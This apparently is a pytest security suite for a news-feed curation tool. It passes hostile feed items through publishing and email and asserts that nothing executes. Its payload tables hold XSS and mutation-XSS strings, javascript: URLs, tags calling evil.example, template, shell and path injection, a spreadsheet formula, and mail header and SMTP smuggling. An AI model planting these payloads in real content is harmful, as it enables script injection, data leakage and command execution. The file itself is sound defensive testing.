"""Every attack goes the whole way, from a feed to our feeds, pages and mails, and nothing comes out alive.

FAULTS 30 to 32 and 36, findings 1, 2, 9 and 10, and the XSS and injection rows of its known vulnerabilities.
"""

from __future__ import annotations

import email
import json
import re
from collections.abc import Iterator
from email import policy
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import feedparser  # type: ignore[import-untyped]  # it has no types
import html5lib
import pytest
from lxml import etree

from newsroom import STORY, Newsroom, Web, an_item, feed, serving

RUNS = r"""
script              <script>alert(1)</script>
mxss-comment        <!--><img src=x onerror=alert(1)>-->
comment-bang        <!-- --!><img src=x onerror=alert(1)>-->
mxss-cdata          <![CDATA[<![CDATA[<script>alert(1)</script>]]>]]>
mxss-noscript       <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
mxss-math           <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=x&gt;">
mxss-svg-style      <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
template            <template><script>alert(1)</script></template>
unclosed            <img src="x" onerror="alert(1)"
img-onerror         <img src=x onerror=alert(1)>
svg                 <svg onload=alert(1)><script>alert(1)</script></svg>
iframe-srcdoc       <iframe srcdoc="<script>alert(1)</script>"></iframe>
object              <object data="javascript:alert(1)"></object><embed src="data:text/html,x">
a-javascript        <a href="javascript:alert(1)">x</a>
a-tab               <a href="java&#9;script:alert(1)">x</a>
a-vbscript          <a href="vbscript:msgbox(1)">x</a>
a-data              <a href="data:text/html,<script>alert(1)</script>">x</a>
srcset              <img srcset="http:a<script>alert(1)</script>"><picture><source srcset="//evil.example/p">
style               <style>@import "http://evil.example/x.css"; body {display: none}</style>
style-attribute     <p style="background:url(javascript:alert(1));position:fixed" onclick="alert(1)">x</p>
meta-refresh        <meta http-equiv=refresh content="0;url=//evil.example/"><base href="//evil.example/">
form                <form action="//evil.example/"><button formaction="javascript:alert(1)">x</button></form>
link-stylesheet     <link rel=stylesheet href="http://evil.example/x.css">
attribute-quote     "><script>alert(1)</script><a title="
pixel               <img src="http://evil.example/pixel.gif" width="1" height="1">
csrf-image          <img src="http://evil.example/logout" alt="x">
video               <video src="http://evil.example/a.mp4" autoplay></video><audio src="http://evil.example/a">
cdata-end           ]]></content></entry><script>alert(1)</script>
jinja               {{ 7*7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}
shell               $(touch pwned)`touch pwned`; touch pwned |
path                ../../../../../../tmp/pwned
formula             =cmd|' /C calc'!A0
"""
ATTACKS = dict(line.split(None, 1) for line in RUNS.strip().splitlines())

BREAKS = {
    "header": "Ciao\r\nBcc: v@evil.example\r\n\r\nbody",
    "encoded-header": "=?utf-8?q?Ciao=0D=0ABcc:_v@evil.example?=",
    "line-separator": "Ciao\u2028Bcc: v@evil.example\u2029\x85Bcc: w@evil.example",
    "smtp-dot": "Ciao\r\n.\r\nMAIL FROM:<v@evil.example>",
    "terminal": "Ciao\x1b[2J\x1b]0;evil\x07\x9b31m",
    "control": "a\x00b\x01c\x08d\x0be\x7ff\ufffeg\uffffh",
    "surrogate": "a&#xD800;b&#55357;c&#0;d&#x1;e",
    "bidi": "evil\u202egnp.exe\u2066",
    "long": "x" * 3000,
}


def an_evil_item(name: str, attack: str, n: int) -> str:
    """The attack in every field that a feed has."""
    said = escape(attack, quote=False)
    url = [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        f"https://blog.example/{attack}",
    ]
    return (
        f"<item><guid isPermaLink='false'>{name} {said}</guid><title>{name} {said}</title>"
        f"<link>{escape(url[n % 3])}</link><dc:creator>{said}</dc:creator><category>{said}</category>"
        f"<description>{said}</description><content:encoded>{escape(STORY)}{said}{escape(STORY)}</content:encoded>"
        f"<enclosure url='{escape('javascript:alert(1)')}' type='image/svg+xml' length='1'/>"
        f"<cc:license xmlns:cc='http://web.resource.org/cc/'>{said}</cc:license></item>"
    )


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Newsroom]:
    """A newsroom whose editor took over every attack word by word, and mailed the result."""
    with serving() as web:
        newsroom = Newsroom(tmp_path_factory.mktemp("hostile") / "newsroom", web, fetch__first_entries="100")
        _tell(newsroom, web)
        yield newsroom


def _tell(newsroom: Newsroom, web: Web) -> None:
    # The channel is hostile too; what XML cannot carry comes in a document of its own.
    named = feed(*(an_evil_item(*each, n) for n, each in enumerate(ATTACKS.items())), title=ATTACKS["script"])
    newsroom.follow(named, path="/attacks")
    broken = [
        an_evil_item(name, "PLACE", n).replace("PLACE", escape(attack).replace("&amp;#", "&#"))
        for n, (name, attack) in enumerate(BREAKS.items())
    ]
    web["/breaks"] = feed(*broken).encode("utf-8", "surrogatepass")
    newsroom.curator("poll", newsroom.ask("source", "add", web.url("/breaks"))["id"])
    newsroom.follow(feed(an_item("honest", "An honest story", STORY)), path="/honest")
    attacks = {**ATTACKS, **BREAKS, "An": "Titolo onesto"}
    for item in newsroom.queue():
        name = item["entry"]["title"].split()[0]
        # What an argument of a process cannot hold, no editor can type.
        typed = attacks[name].replace("\x00", "")
        url = f"https://blog.example/{name}"
        credit = {"title": typed, "authors": [typed], "publisher": typed, "url": url, "license": typed}
        newsroom.curator(
            *("write", item["id"], f"--headline={name} {typed}", f"--note={typed}", f"--tag={typed}"),
            *("--image=https://pictures.example/p.png", f"--credit={typed}", f"--alt={typed}"),
            f"--attribution={json.dumps(credit)}",
        )
    newsroom.curator(
        "approve", *(item["id"] for item in newsroom.ask("items", "--status", "drafting")["items"])
    )
    newsroom.curator("publish")
    newsroom.curator("subscriber", "add", "ada@example.org", "--confirmed", "--consent", "a voce")
    newsroom.curator("issue", "close")
    newsroom.curator("issue", "send")


# ── what a reader's browser would make of it ──

ALIVE = frozenset(
    "script iframe object embed applet svg math form button input textarea select base template noscript"
    " frame video audio source picture portal".split()
)
ADDRESSES = frozenset(
    "href src srcset cite action formaction data poster background longdesc xlink:href".split()
)
CONTROLS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def alive(html: str, *, whole_page: bool) -> list[str]:
    """What would run, ask or hide in this HTML; our pages have heads, with our style and data."""
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    head, body = tree
    for data in head.findall("script[@type='application/ld+json']") if whole_page else ():
        assert json.loads("".join(data.itertext()))["@context"] == "https://schema.org"
        head.remove(data)  # a browser does not run it, and it ends where we ended it
    of_ours = {"style", "link", "meta", "title"}
    found = [sign for element in tree.iter() for sign in _signs_of_life(element)]
    found += [str(element.tag) for element in body.iter() if element.tag in of_ours]
    return found if whole_page else found + [str(element.tag) for element in head]


def _signs_of_life(element: Any) -> Iterator[str]:
    if not isinstance(element.tag, str):
        if re.search("evil|alert", element.text or ""):
            yield "comment"
        return
    tag = element.tag.rpartition("}")[2]
    if tag in ALIVE or (tag == "meta" and element.get("http-equiv", "").lower() == "refresh"):
        yield tag
    if tag in {"img", "style"} and "evil.example" in element.get("src", "") + "".join(element.itertext()):
        yield f"{tag} that calls"
    for name, value in element.attrib.items():
        if str(name).startswith("on") or (name == "style" and re.search(r"evil|script|url\(", value)):
            yield f"{tag} {name}"
        if name in ADDRESSES and urlsplit(value.strip()).scheme not in {"http", "https", "mailto", ""}:
            yield f"{tag} {name}={value}"


HARMLESS = {"mxss-cdata", "jinja", "shell", "path", "formula"}  # to a browser, that is


SEARCH_PAGE = ["script", "form", "input", "button"]


def test_the_check_knows_life_where_there_is_some() -> None:
    dead = {name for name, attack in ATTACKS.items() if not alive(f"<p>{attack}<p>next", whole_page=False)}

    assert dead == HARMLESS


def test_the_pages_are_dead(told: Newsroom) -> None:
    pages = sorted((told.folder / "public").rglob("*.html"))

    assert len(pages) > len(ATTACKS) + len(BREAKS)
    for page in pages:
        html = page.read_text(encoding="utf-8")
        ours = SEARCH_PAGE if page.parent.name == "search" else []  # no word of an item is on it
        assert alive(html, whole_page=True) == ours, page.name
        assert not CONTROLS.search(html), page.name
        assert re.fullmatch(r"[a-z0-9-]+\.html", page.name)


def test_the_previews_are_dead(told: Newsroom) -> None:
    for item in told.ask("items", "--limit", 100)["items"][::6]:
        for path in told.ask("preview", item["id"])["files"]:
            assert alive(Path(path).read_text(encoding="utf-8"), whole_page=True) == [], path


@pytest.mark.parametrize("name", ["feed.atom", "feed.rss"])
def test_the_feeds_are_whole_and_dead(told: Newsroom, name: str) -> None:
    document = (told.folder / "public" / name).read_bytes()
    tree = etree.fromstring(document, etree.XMLParser(resolve_entities=False, no_network=True))
    read = feedparser.parse(document, sanitize_html=False)

    assert len(read.entries) == len(ATTACKS) + len(BREAKS) + 1
    assert "Titolo onesto" in {entry.title.removeprefix("An ") for entry in read.entries}
    assert not CONTROLS.search(document.decode())
    assert b"<!DOCTYPE" not in document
    for element in tree.iter():
        for key in ("href", "src", "url", "uri"):
            assert urlsplit(element.get(key, "")).scheme in {"http", "https", "mailto", "tag", ""}
        is_html = element.get("type") == "html" or str(element.tag).endswith(("}encoded", "description"))
        if is_html and element.get("type") != "plain":
            assert alive(element.text or "", whole_page=False) == []
        if str(element.tag).endswith(("link", "}uri", "}id")) and element.text:
            assert urlsplit(element.text.strip()).scheme in {"http", "https", "tag", ""}


def test_the_json_feed_is_whole_and_dead(told: Newsroom) -> None:
    read = json.loads((told.folder / "public/feed.json").read_text(encoding="utf-8"))

    assert len(read["items"]) == len(ATTACKS) + len(BREAKS) + 1
    for item in read["items"]:
        assert alive(item["content_html"], whole_page=False) == [], item["title"]
    assert [text for text in _texts(read) if CONTROLS.search(text)] == []
    assert [url for url in _urls(read) if urlsplit(url).scheme not in {"http", "https"}] == []


def _texts(value: Any) -> Iterator[str]:
    match value:
        case str():
            yield value
        case list():
            for each in value:
                yield from _texts(each)
        case dict():
            for each in value.values():
                yield from _texts(each)


def _urls(value: Any) -> Iterator[str]:
    match value:
        case list():
            for each in value:
                yield from _urls(each)
        case dict():
            for key, each in value.items():
                if isinstance(each, str) and (key == "image" or key.endswith("url")):
                    yield each
                yield from _urls(each)


HEADER = """
From Subject Date To Message-ID List-Id List-Help List-Owner List-Archive List-Post Feedback-ID
Auto-Submitted Precedence Content-Language MIME-Version Content-Type List-Unsubscribe
""".split()


def test_the_mail_has_its_own_header_and_no_other(told: Newsroom) -> None:
    (path,) = (told.folder / "outbox").rglob("*.eml")
    raw = path.read_bytes()
    mail = email.message_from_bytes(raw, policy=policy.default)

    assert list(mail.keys()) == HEADER
    assert list(email.message_from_bytes(mail.as_bytes(policy=policy.SMTP)).keys()) == HEADER
    assert mail["To"].addresses[0].addr_spec == "ada@example.org"
    assert [part.get_content_type() for part in mail.iter_parts()] == ["text/plain", "text/html"]
    assert max(map(len, raw.split(b"\n"))) <= 998
    assert b"\n.\r\n" not in raw
    assert b"\n.\n" not in raw


def test_the_mail_is_dead_and_whole(told: Newsroom) -> None:
    (path,) = (told.folder / "outbox").rglob("*.eml")
    plain, html = email.message_from_bytes(path.read_bytes(), policy=policy.default).iter_parts()

    assert alive(html.get_content(), whole_page=True) == []
    assert not CONTROLS.search(html.get_content() + plain.get_content())
    assert "Titolo onesto" in html.get_content()
    assert "Titolo onesto" in plain.get_content()


def test_words_are_shown_as_they_were_typed(told: Newsroom) -> None:
    page = next((told.folder / "public/items").glob("jinja-*.html")).read_text(encoding="utf-8")

    assert "{{ 7*7 }}" in html5lib.parse(page, namespaceHTMLElements=False).findtext(".//h1", "")
    assert not list(told.folder.rglob("pwned*"))
    assert not Path("/tmp/pwned").exists()


def test_the_terminal_and_the_list_of_sources_carry_no_orders(told: Newsroom) -> None:
    for words in (
        ["items", "--limit", 100],
        ["entries", "--limit", 100],
        ["source", "list"],
        ["log"],
        ["show", 1],
    ):
        answer = told.curator(*words)
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", answer.out + answer.err)

    opml = etree.fromstring(told.curator("source", "export").out.encode())
    assert ATTACKS["script"] in {outline.get("text") for outline in opml.iter("outline")}
